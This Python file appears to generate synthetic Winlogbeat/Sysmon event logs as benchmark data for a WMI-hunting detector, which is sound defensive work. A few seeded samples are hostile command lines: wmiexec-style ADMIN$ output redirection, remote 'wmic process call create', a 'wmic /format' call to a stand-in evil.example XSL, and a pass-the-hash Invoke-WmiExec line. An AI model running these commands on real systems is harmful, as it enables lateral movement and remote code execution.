"""Synthetic Winlogbeat (ECS) JSON lines: a realistic busy-endpoint mix, for the benchmark.

Shape as Winlogbeat 8 writes it (``winlog.event_data`` plus a rendered ``message``), the
same shape as the project's own ``samples/logs/srv01_winlogbeat.jsonl``. The mix is what a
Sysmon-equipped fleet produces: mostly network connections (3), image loads (7),
registry sets (13) and process access (10); a few percent process starts (Sysmon 1,
Security 4688) and PowerShell script blocks (4104). Among the process starts, a small
fraction is WMI-related (WmiPrvSE children, wmic with and without ``/node:``), so the
story rules match a few hundred events per million.

Deterministic: one seed, fixed clock, so two builds write the same bytes.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import orjson

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
PROVIDER = {
    SYSMON: ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"),
    SECURITY: ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}"),
    POWERSHELL: ("Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"),
}

#: (channel, event id, weight) of the mix; relevant to wmihunt: Sysmon 1, 4688, 4104.
MIX: list[tuple[str, int, float]] = [
    (SYSMON, 3, 0.30),
    (SYSMON, 7, 0.27),
    (SYSMON, 13, 0.18),
    (SYSMON, 10, 0.13),
    (SYSMON, 1, 0.05),
    (SECURITY, 4688, 0.04),
    (POWERSHELL, 4104, 0.03),
]

TITLES = {
    1: "Process Create",
    3: "Network connection detected",
    7: "Image loaded",
    10: "Process accessed",
    13: "Registry value set",
}
TASKS = {
    1: "Process Create (rule: ProcessCreate)",
    3: "Network connection detected (rule: NetworkConnect)",
    7: "Image loaded (rule: ImageLoad)",
    10: "Process accessed (rule: ProcessAccess)",
    13: "Registry value set (rule: RegistryEvent)",
    4688: "Process Creation",
    4104: "Execute a Remote Command",
}

IMAGES = [
    (
        "C:\\Windows\\System32\\svchost.exe",
        "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
    ),
    ("C:\\Windows\\explorer.exe", "Explorer.EXE", "C:\\Windows\\Explorer.EXE"),
    (
        "C:\\Windows\\System32\\conhost.exe",
        "CONHOST.EXE",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe",
        "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle',
    ),
    (
        "C:\\Windows\\System32\\backgroundTaskHost.exe",
        "backgroundTaskHost.exe",
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" '
        "-ServerName:BackgroundTaskHost.WebAccountProvider",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1",
    ),
    ("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", "C:\\Windows\\system32\\cmd.exe /c echo %TEMP%"),
    (
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "SearchProtocolHost.exe",
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_',
    ),
]
WMIPRVSE = (
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    "Wmiprvse.exe",
    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
)
WMIC = "C:\\Windows\\System32\\wbem\\WMIC.exe"
#: WMI-related command lines; (command line, parent): a few of them match the story rules.
WMI_CHILDREN = [
    ("cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1710230000.5 2>&1", WMIPRVSE),
    ('wmic /node:10.0.4.21 process call create "cmd.exe /c whoami"', IMAGES[8]),
    ('wmic os get /format:"https://evil.example/a.xsl"', IMAGES[8]),
    ("wmic process get name,processid", IMAGES[7]),
    ('wmic /node:"SRV02" service list brief', IMAGES[7]),
]
DLLS = [
    "ntdll.dll",
    "kernel32.dll",
    "KernelBase.dll",
    "user32.dll",
    "combase.dll",
    "rpcrt4.dll",
    "ole32.dll",
    "wininet.dll",
    "crypt32.dll",
    "amsi.dll",
    "clr.dll",
]
REG_KEYS = [
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1104\\"
    "\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe",
    "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
    "UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignatureLocation",
]
SCRIPTS = [
    "Get-CimInstance -ClassName Win32_Service -Filter \"State='Running'\" | "
    "Select-Object Name, StartName, PathName | Sort-Object Name",
    "$ErrorActionPreference = 'Stop'\nImport-Module ActiveDirectory\n"
    "Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\ops\\computers.csv",
    "prompt",
    "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
]
USERS = [
    "NT AUTHORITY\\SYSTEM",
    "EXAMPLECORP\\j.doe",
    "EXAMPLECORP\\it-admin",
    "NT AUTHORITY\\NETWORK SERVICE",
    "EXAMPLECORP\\a.smith",
]


def _public_ip(rnd: random.Random) -> str:
    octets = (rnd.randrange(1, 223), rnd.randrange(256), rnd.randrange(256), rnd.randrange(1, 255))
    return ".".join(map(str, octets))


class Generator:
    """Events for ``hosts`` hosts, one call to ``line`` per event."""

    def __init__(self, seed: int = 20240312, hosts: int = 40, wmi_rate: float = 0.004) -> None:
        self.rnd = random.Random(seed)
        self.hosts = [f"WS{i:03d}.examplecorp.test" for i in range(hosts)]
        self.clock = datetime(2024, 3, 12, 6, 0, tzinfo=UTC)
        self.record = 1_000_000
        self.wmi_rate = wmi_rate
        channels, ids, weights = zip(*MIX, strict=True)
        self._kinds = list(zip(channels, ids, strict=True))
        self._weights = list(weights)

    def _guid(self) -> str:
        r = self.rnd.getrandbits(64)
        a, b, c = r >> 48 & 0xFFFF, r >> 32 & 0xFFFF, r & 0xFFFFFFFF
        return f"{{2C8F40D7-{a:04X}-65F0-{b:04X}-{c:08X}0A00}}"

    def events(self, n: int) -> Iterator[bytes]:
        """``n`` JSON lines (bytes, newline-terminated)."""
        rnd = self.rnd
        kinds = rnd.choices(self._kinds, self._weights, k=n)
        for channel, eid in kinds:
            self.clock += timedelta(microseconds=rnd.randrange(1000, 40000))
            self.record += 1
            yield orjson.dumps(self._event(channel, eid)) + b"\n"

    def _event(self, channel: str, eid: int) -> dict:
        rnd = self.rnd
        host = rnd.choice(self.hosts)
        ts = self.clock.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
        utc = self.clock.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        image, original, cmd = rnd.choice(IMAGES)
        pid = rnd.randrange(400, 20000)
        user = rnd.choice(USERS)
        if channel == SYSMON:
            data = self._sysmon(eid, utc, image, original, cmd, pid, user)
        elif eid == 4688:
            data = self._security_4688(host, image, cmd, pid, user)
        else:
            data = {
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": rnd.choice(SCRIPTS)
                if rnd.random() > 0.001
                else "Invoke-WmiExec -Target 10.0.4.21 -Hash 31d6cfe0d16ae931b73c59d7e0c089c0",
                "ScriptBlockId": self._guid().lower(),
                "Path": "",
            }
        provider, guid = PROVIDER[channel]
        title = TITLES.get(
            eid,
            "Creating Scriptblock text (1 of 1)"
            if eid == 4104
            else "A new process has been created.",
        )
        message = title + ":\r\n" + "\r\n".join(f"{k}: {v}" for k, v in data.items())
        return {
            "@timestamp": ts,
            "agent": {
                "id": "3f8a9c1e-2b4d-4e6f-8a0b-1c2d3e4f5a6b",
                "name": host.split(".")[0],
                "type": "winlogbeat",
                "version": "8.12.2",
            },
            "ecs": {"version": "8.0.0"},
            "event": {"code": str(eid), "created": ts, "kind": "event", "provider": provider},
            "host": {"name": host.lower()},
            "log": {"level": "information"},
            "message": message,
            "winlog": {
                "api": "wineventlog",
                "channel": channel,
                "computer_name": host,
                "event_data": data,
                "event_id": str(eid),
                "opcode": "Info",
                "process": {
                    "pid": rnd.randrange(400, 9000),
                    "thread": {"id": rnd.randrange(400, 20000)},
                },
                "provider_guid": guid,
                "provider_name": provider,
                "record_id": self.record,
                "task": TASKS[eid],
                "user": {
                    "domain": "NT AUTHORITY",
                    "identifier": "S-1-5-18",
                    "name": "SYSTEM",
                    "type": "User",
                },
                "version": 5 if channel == SYSMON else 2,
            },
        }

    def _process(
        self, image: str, original: str, cmd: str, parent: tuple[str, str, str]
    ) -> tuple[str, str, str, tuple[str, str, str]]:
        if self.rnd.random() < self.wmi_rate:
            cmd, parent = self.rnd.choice(WMI_CHILDREN)
            if cmd.startswith("wmic"):
                return WMIC, "wmic.exe", cmd, parent
            return "C:\\Windows\\System32\\cmd.exe", "Cmd.Exe", cmd, parent
        return image, original, cmd, parent

    def _sysmon(
        self, eid: int, utc: str, image: str, original: str, cmd: str, pid: int, user: str
    ) -> dict:
        rnd = self.rnd
        base = {
            "RuleName": "-",
            "UtcTime": utc,
            "ProcessGuid": self._guid(),
            "ProcessId": str(pid),
            "Image": image,
        }
        if eid == 1:
            image, original, cmd, parent = self._process(image, original, cmd, rnd.choice(IMAGES))
            base["Image"] = image
            base.update(
                {
                    "FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)",
                    "Description": "-",
                    "Product": "Microsoft® Windows® Operating System",
                    "Company": "Microsoft Corporation",
                    "OriginalFileName": original,
                    "CommandLine": cmd,
                    "CurrentDirectory": "C:\\Windows\\system32\\",
                    "User": user,
                    "LogonGuid": self._guid(),
                    "LogonId": hex(rnd.randrange(0x3E4, 0xFFFFFFF)),
                    "TerminalSessionId": "1",
                    "IntegrityLevel": rnd.choice(["Medium", "High", "System"]),
                    "Hashes": "SHA256=" + f"{rnd.getrandbits(256):064X}",
                    "ParentProcessGuid": self._guid(),
                    "ParentProcessId": str(rnd.randrange(400, 20000)),
                    "ParentImage": parent[0],
                    "ParentCommandLine": parent[2],
                    "ParentUser": user,
                }
            )
        elif eid == 3:
            base.update(
                {
                    "User": user,
                    "Protocol": "tcp",
                    "Initiated": "true",
                    "SourceIsIpv6": "false",
                    "SourceIp": f"10.0.{rnd.randrange(1, 9)}.{rnd.randrange(2, 250)}",
                    "SourceHostname": "-",
                    "SourcePort": str(rnd.randrange(49152, 65535)),
                    "SourcePortName": "-",
                    "DestinationIsIpv6": "false",
                    "DestinationIp": _public_ip(rnd),
                    "DestinationHostname": "-",
                    "DestinationPort": rnd.choice(["443", "80", "445", "135"]),
                    "DestinationPortName": "-",
                }
            )
        elif eid == 7:
            dll = rnd.choice(DLLS)
            base.update(
                {
                    "ImageLoaded": f"C:\\Windows\\System32\\{dll}",
                    "FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)",
                    "Description": dll,
                    "Product": "Microsoft® Windows® Operating System",
                    "Company": "Microsoft Corporation",
                    "OriginalFileName": dll,
                    "Hashes": "SHA256=" + f"{rnd.getrandbits(256):064X}",
                    "Signed": "true",
                    "Signature": "Microsoft Windows",
                    "SignatureStatus": "Valid",
                    "User": user,
                }
            )
        elif eid == 10:
            base = {
                "RuleName": "-",
                "UtcTime": utc,
                "SourceProcessGUID": self._guid(),
                "SourceProcessId": str(pid),
                "SourceThreadId": str(rnd.randrange(400, 20000)),
                "SourceImage": image,
                "TargetProcessGUID": self._guid(),
                "TargetProcessId": str(rnd.randrange(400, 20000)),
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": rnd.choice(["0x1000", "0x1410", "0x1FFFFF"]),
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\"
                "KERNELBASE.dll+2c13e|UNKNOWN(00007FFB1A2B3C4D)",
                "SourceUser": user,
                "TargetUser": "NT AUTHORITY\\SYSTEM",
            }
        else:  # 13
            base.update(
                {
                    "EventType": "SetValue",
                    "TargetObject": rnd.choice(REG_KEYS),
                    "Details": f"Binary Data {rnd.randrange(1 << 30)}",
                    "User": user,
                }
            )
        return base

    def _security_4688(self, host: str, image: str, cmd: str, pid: int, user: str) -> dict:
        rnd = self.rnd
        image, _, cmd, parent = self._process(image, "", cmd, rnd.choice(IMAGES))
        domain, _, name = user.partition("\\")
        return {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": host.split(".")[0] + "$",
            "SubjectDomainName": "EXAMPLECORP",
            "SubjectLogonId": "0x3e7",
            "NewProcessId": hex(pid),
            "NewProcessName": image,
            "TokenElevationType": "%%1936",
            "ProcessId": hex(rnd.randrange(400, 20000)),
            "CommandLine": cmd,
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": name,
            "TargetDomainName": domain,
            "TargetLogonId": hex(rnd.randrange(0x3E4, 0xFFFFFFF)),
            "ParentProcessName": parent[0],
            "MandatoryLabel": "S-1-16-12288",
        }
